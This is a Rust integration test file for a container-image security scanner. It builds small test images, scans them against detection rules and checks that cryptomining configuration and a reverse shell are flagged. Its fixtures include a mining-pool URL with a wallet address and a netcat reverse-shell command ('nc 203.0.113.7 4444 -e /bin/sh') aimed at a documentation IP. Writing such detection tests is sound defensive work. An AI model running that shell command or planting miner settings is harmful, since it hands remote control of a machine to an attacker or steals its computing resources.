// SPDX-License-Identifier: Apache-2.0

//! Images in a real engine, looked into.
//!
//! Needs a container engine (DOCKER_HOST or one of the usual sockets).

use std::{sync::Arc, time::Duration};

use bollard::{
	body_full,
	query_parameters::{ImportImageOptionsBuilder, RemoveImageOptions},
	Docker, API_DEFAULT_VERSION,
};
use futures::TryStreamExt;
use sha2::{Digest, Sha256};
use surety_client::spec::parse_image;
use surety_worker::{
	auditor::{
		images::{ImageError, Limits, Report},
		once::look_into,
		yara::Rules,
	},
	config::EngineConfig,
	engine::Engine,
};
use tar::{Builder, Header};

const LIMITS: Limits = Limits { mib: 64, time: Duration::from_secs(60) };

fn archive(files: &[(&str, &[u8])]) -> Vec<u8> {
	let mut archive = Builder::new(Vec::new());
	for (name, content) in files {
		let mut header = Header::new_gnu();
		header.set_size(content.len() as u64);
		header.set_mode(0o644);
		archive.append_data(&mut header, name, *content).unwrap();
	}
	archive.into_inner().unwrap()
}

/// An image with this file in its only layer, and this command, as the engine loads one.
fn image(name: &str, content: &str, command: &str) -> Vec<u8> {
	let layer = archive(&[("opt/app/config", content.as_bytes())]);
	let diff = hex::encode(Sha256::digest(&layer));
	let config = format!(
		r#"{{"architecture":"amd64","os":"linux","config":{{"Cmd":{command}}},
		"rootfs":{{"type":"layers","diff_ids":["sha256:{diff}"]}}}}"#
	);
	let manifest =
		format!(r#"[{{"Config":"config.json","RepoTags":["{name}"],"Layers":["layer.tar"]}}]"#);
	archive(&[
		("layer.tar", &layer),
		("config.json", config.as_bytes()),
		("manifest.json", manifest.as_bytes()),
	])
}

/// Loads an image, looks into it and removes it.
async fn scan(
	number: u8,
	content: &str,
	command: &str,
	limits: Limits,
) -> Result<Report, ImageError> {
	let engine = match Engine::connect(&EngineConfig::default(), "images").await {
		Ok(engine) => engine,
		Err(error) => panic!("these tests need a container engine: {error}"),
	};
	let docker = Docker::connect_with_unix(engine.socket(), 60, API_DEFAULT_VERSION)
		.unwrap()
		.negotiate_version()
		.await
		.unwrap();
	let tag = format!("localhost/surety-scanned-{}-{number}:latest", std::process::id());
	let load = body_full(image(&tag, content, command).into());
	let options = ImportImageOptionsBuilder::new().build();
	let _: Vec<_> = docker.import_image(options, load, None).try_collect().await.unwrap();
	let digests = docker.inspect_image(&tag).await.unwrap().repo_digests.unwrap();
	let image = parse_image(&digests[0]).unwrap();
	let rules = Arc::new(Rules::load(None).unwrap());
	let report = look_into(&engine, &image, rules, limits).await;
	let here = docker.inspect_image(&tag).await;
	assert!(here.is_ok(), "what was here before stays");
	docker.remove_image(&tag, None::<RemoveImageOptions>, None).await.unwrap();
	report
}

#[tokio::test]
async fn what_an_image_brings_along_is_found_in_its_layers_and_its_command() {
	let wallet = "0x52908400098527886E0F7030069857D2E4169EE7";
	let content = format!("stratum+tcp://pool.example.org:3333 {wallet}");
	let report = scan(1, &content, r#"["/opt/app/run"]"#, LIMITS).await.unwrap();
	let rules: Vec<_> = report.hits.iter().map(|hit| hit.rule.as_str()).collect();
	assert_eq!(rules, ["mining_pool_and_wallet", "wallet_at_a_pool_port"]);
	assert!(report.hits[0].file.ends_with("opt/app/config"), "{:?}", report.hits);
	assert_eq!(report.hits[0].sha256, hex::encode(Sha256::digest(&content)));

	let report = scan(2, "nothing", r#"["nc","203.0.113.7","4444","-e","/bin/sh"]"#, LIMITS).await;
	// The parts of a command stand apart in the description of an image.
	assert_eq!(report.unwrap().hits, []);
	let report =
		scan(3, "nothing", r#"["sh","-c","nc 203.0.113.7 4444 -e /bin/sh"]"#, LIMITS).await;
	assert_eq!(report.unwrap().hits[0].rule, "reverse_shell");
}

#[tokio::test]
async fn an_honest_image_is_clean_and_a_large_one_is_not_read_to_its_end() {
	let report = scan(4, "an honest job", r#"["/opt/app/run"]"#, LIMITS).await.unwrap();
	assert_eq!((report.hits.len(), report.unread.len()), (0, 0));
	assert!(report.files >= 3, "{report:?}");
	let large = "x".repeat(3 << 20);
	let limits = Limits { mib: 2, ..LIMITS };
	let refused = scan(5, &large, r#"["/opt/app/run"]"#, limits).await;
	assert!(matches!(refused, Err(ImageError::TooLarge { mib: 2 })), "{refused:?}");
}
